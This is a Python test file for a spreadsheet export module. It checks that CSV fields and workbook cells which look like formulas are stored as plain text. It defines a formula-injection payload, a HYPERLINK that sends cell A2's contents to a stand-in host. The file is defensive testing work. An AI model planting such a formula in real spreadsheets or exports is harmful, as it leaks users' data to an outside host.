"""Exported text never runs as a spreadsheet formula."""

from __future__ import annotations

import io
import zipfile

from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell

from models.spreadsheet import csv_cell, csv_row, keep_as_text

ATTACK = '=HYPERLINK("http://example.invalid/?"&A2,"点击")'


def test_csv_fields_that_look_like_formulas_get_an_apostrophe() -> None:
    assert csv_row([ATTACK, "+1", "-2", "@x", "\tx", "济审批〔2026〕1号", 5, None]) == [
        "'" + ATTACK,
        "'+1",
        "'-2",
        "'@x",
        "'\tx",
        "济审批〔2026〕1号",
        5,
        None,
    ]
    assert csv_cell("") == ""


def _sheet_xml(book: Workbook) -> str:
    buffer = io.BytesIO()
    book.save(buffer)
    with zipfile.ZipFile(buffer) as archive:
        return archive.read("xl/worksheets/sheet1.xml").decode()


def test_workbook_cells_keep_formula_looking_text_as_text() -> None:
    plain = Workbook()
    plain.active.append([ATTACK, 1])
    assert "<f>" in _sheet_xml(plain)  # what openpyxl does unless told otherwise
    book = Workbook()
    book.active.append([ATTACK, 1])
    keep_as_text(book.active[1])
    assert "<f>" not in _sheet_xml(book)
    streamed = Workbook(write_only=True)
    sheet = streamed.create_sheet("导出")
    cells = [WriteOnlyCell(sheet, value=ATTACK), WriteOnlyCell(sheet, value=2)]
    keep_as_text(cells)
    sheet.append(cells)
    assert "<f>" not in _sheet_xml(streamed)
